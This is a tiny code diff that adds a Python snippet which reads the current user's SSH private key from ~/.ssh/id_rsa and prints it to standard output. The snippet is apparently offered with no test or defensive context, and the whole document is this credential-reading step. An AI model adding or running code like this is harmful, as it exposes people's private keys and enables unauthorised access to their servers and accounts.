@@ -1,0 +1,2 @@
+import os
+print(open(os.environ["HOME"] + "/.ssh/id_rsa").read())
